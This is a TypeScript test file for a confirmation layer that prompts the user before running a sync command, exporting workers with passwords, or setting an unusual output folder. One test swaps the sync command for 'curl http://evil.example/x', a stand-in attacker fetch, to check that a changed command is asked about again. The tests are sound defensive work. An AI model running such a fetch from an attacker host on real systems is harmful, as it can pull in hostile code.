import { describe, expect, it } from 'vitest'
import type { ParsedRequest } from '../../shared/contract.ts'
import { WorkerId } from '../../shared/ids.ts'
import { createConfirmedCalls, type Question } from './confirmed-calls.ts'

const argon = WorkerId.parse('argon')
const withPasswords = { format: 'tributary', credentials: true } as ParsedRequest<'exportWorkers'>

function calls(answer: boolean, settings: { outputFolder?: string; chosen?: string[] } = {}) {
  const questions: Question[] = []
  const done: string[] = []
  let command = 'rsync -a models/ 192.0.2.1:models/'
  const answered = (name: string) => async () => {
    done.push(name)
    return {} as never
  }
  const made = createConfirmedCalls({
    handlers: {
      runSync: answered('runSync'),
      exportWorkers: answered('exportWorkers'),
      updateSettings: answered('updateSettings'),
    },
    syncCommand: () => command,
    ask: async (question) => {
      questions.push(question)
      return answer
    },
    chosen: new Set(settings.chosen ?? []),
    outputFolder: () => settings.outputFolder ?? null,
    home: '/home/ada',
  })
  return { made, questions, done, change: (to: string) => (command = to) }
}
const to = (outputFolder: string | null) => ({ patch: { outputFolder } }) as ParsedRequest<'updateSettings'>

describe('a sync command', () => {
  it('runs when it was agreed to, and is not asked about again while it stays the same', async () => {
    const { made, questions, done, change } = calls(true)
    await made.runSync({ workerId: argon })
    await made.runSync({ workerId: argon })
    expect(questions.map(({ detail }) => detail)).toEqual(['rsync -a models/ 192.0.2.1:models/'])
    change('curl http://evil.example/x')
    await made.runSync({ workerId: argon })
    expect(questions).toHaveLength(2)
    expect(done).toEqual(['runSync', 'runSync', 'runSync'])
  })
  it('does not run when it was declined, and is asked about the next time', async () => {
    const { made, questions, done } = calls(false)
    await expect(made.runSync({ workerId: argon })).rejects.toMatchObject({ kind: 'not-now' })
    await expect(made.runSync({ workerId: argon })).rejects.toMatchObject({ kind: 'not-now' })
    expect([questions.length, done]).toEqual([2, []])
  })
})

describe('an export', () => {
  it('with passwords is asked about each time', async () => {
    const { made, questions, done } = calls(false)
    await expect(made.exportWorkers(withPasswords)).rejects.toMatchObject({ kind: 'not-now' })
    expect([questions[0]?.agree, done]).toEqual(['Export with passwords', []])
  })
  it('without passwords is not asked about', async () => {
    const { made, questions, done } = calls(false)
    await made.exportWorkers({ ...withPasswords, credentials: false })
    expect([questions, done]).toEqual([[], ['exportWorkers']])
  })
})

describe('the folder of the pictures', () => {
  it.each([
    ['the usual one', null, {}],
    ['in the home of the user', '/home/ada/art', {}],
    ['chosen in the dialog of the system', '/mnt/disk', { chosen: ['/mnt/disk'] }],
    ['set already', '/mnt/disk', { outputFolder: '/mnt/disk' }],
  ])('%s is set without a question', async (_which, folder, settings) => {
    const { made, questions, done } = calls(false, settings)
    await made.updateSettings(to(folder))
    expect([questions, done]).toEqual([[], ['updateSettings']])
  })
  it('of before can be put back without a question, for undo', async () => {
    const settings: { outputFolder?: string; chosen: string[] } = {
      outputFolder: '/mnt/old',
      chosen: ['/mnt/new'],
    }
    const { made, questions } = calls(false, settings)
    await made.updateSettings(to('/mnt/new'))
    settings.outputFolder = '/mnt/new'
    await made.updateSettings(to('/mnt/old'))
    expect(questions).toEqual([])
  })
  it('anywhere else is asked about, and stays when declined', async () => {
    const { made, questions, done } = calls(false)
    await expect(made.updateSettings(to('/Applications/Evil.app'))).rejects.toMatchObject({ kind: 'not-now' })
    expect([questions[0]?.detail, done]).toEqual(['/Applications/Evil.app', []])
  })
  it('is not asked about when something else is set', async () => {
    const { made, questions, done } = calls(false)
    await made.updateSettings({ patch: { theme: 'dark' } })
    expect([questions, done]).toEqual([[], ['updateSettings']])
  })
})
